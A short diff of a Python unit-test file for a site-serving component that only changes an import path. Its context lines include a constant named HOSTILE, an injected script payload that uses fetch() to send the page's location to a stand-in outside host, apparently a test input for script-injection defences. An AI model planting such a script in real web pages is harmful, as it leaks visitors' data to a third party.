@@ -18,7 +18,7 @@ from chaos.serve.runs import RunDirectories
 from chaos.serve.site import Site
 from chaos.trends.store import FILE as STORE
 from chaos.trends.store import changing, put_rows
-from tests.kit.many_runs import a_row
+from tests.kit.runs.many_runs import a_row
 from tests.unit.serve.conftest import HOST, RUN, Get
 
 HOSTILE = "<!doctype html><script>fetch('//elsewhere.example/' + location)</script>"
